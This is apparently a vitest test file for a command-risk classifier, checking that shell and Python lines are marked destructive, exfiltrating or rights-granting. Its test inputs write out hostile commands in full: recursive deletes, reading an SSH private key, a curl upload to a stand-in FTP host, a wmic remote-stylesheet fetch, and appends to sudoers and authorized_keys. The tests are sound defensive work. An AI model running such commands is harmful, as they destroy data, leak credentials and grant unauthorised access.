import { describe, expect, test } from 'vitest'

import { commandClasses, type CommandClass, type CommandShell } from '../../../shared/domain/command-class.ts'
import { classifyCommand } from './classify-command.ts'

function classOf(shell: CommandShell, line: string): CommandClass {
  return classifyCommand(shell, line).verdict
}

describe('what a program of Python starts is judged as the line that it is', () => {
  test.each([
    ["import subprocess\nsubprocess.run(['ls', '-la'])", 'modifies'],
    ["import subprocess\nsubprocess.run(['rm', '-rf', 'data'])", 'destructive'],
    ["import os\nos.system('rm -rf data')", 'destructive'],
    ["import os as o\no.system('del /s /q C:/data')", 'destructive'],
    ["from subprocess import check_output\nprint(check_output(['cat', '/home/ann/.ssh/id_rsa']))", 'exfiltrates'],
    ['import subprocess as sp\nsp.Popen("curl -T a.txt ftp://198.51.100.7", shell=True)', 'exfiltrates'],
    // What is put together is not shown.
    ['import subprocess\nsubprocess.run([program, "a"])', 'destructive'],
    ["import os\nos.system('r' + 'm a')", 'destructive'],
    ['import os\nos.system(f"rm {x}")', 'destructive'],
  ] as const)('%s: %s', (line, expected) => {
    const { verdict, understood } = classifyCommand('python', line)
    expect([verdict, understood]).toEqual([expected, false])
  })

  test('at its own line', () => {
    const { reasons } = classifyCommand('python', "import os\n\nos.system('rm a')")
    expect(reasons).toContainEqual({ code: 'deletes_files', line: 3 })
  })
})

describe('a switch with a value', () => {
  test.each([
    ['posix', 'journalctl -u ssh -n 20 -p err'],
    ['posix', 'journalctl -xeu ssh'],
    ['posix', 'sort -t , -k 2 a.csv'],
    ['posix', 'find . -size -5k -mtime -2'],
    ['cmd', "wmic process where name='notepad.exe' get processid,name /value"],
  ] as const)('%s: %s only reads', (shell, line) => {
    expect(classOf(shell, line)).toBe('read_only')
  })

  test.each([
    ['posix', 'journalctl -n --vacuum-time=1s'],
    ['posix', 'journalctl -u --rotate'],
    ['posix', 'sort -t -o a.csv'],
    ['posix', 'find . -name -delete'],
    ['cmd', "wmic process where name='a' call terminate get"],
    ['cmd', "wmic process where name='a' delete get x"],
    ['cmd', "wmic process where name='a' get name /format:http://198.51.100.7/a"],
  ] as const)('%s: %s does not swallow another one', (shell, line) => {
    expect(classOf(shell, line)).not.toBe('read_only')
  })
})

test('what is written to a file that says who may do what grants rights', () => {
  for (const line of [
    "echo 'ann ALL=(ALL) ALL' >> /etc/sudoers.d/ann",
    'echo x > /etc/passwd',
    'echo key >> ~/.ssh/authorized_keys',
    'cp mine /etc/pam.d/sudo',
    'ln -sf mine /etc/group',
  ])
    expect([line, commandClasses.indexOf(classOf('posix', line)) >= 2]).toEqual([line, true])
  expect(classOf('posix', 'cat /etc/passwd')).toBe('read_only')
})
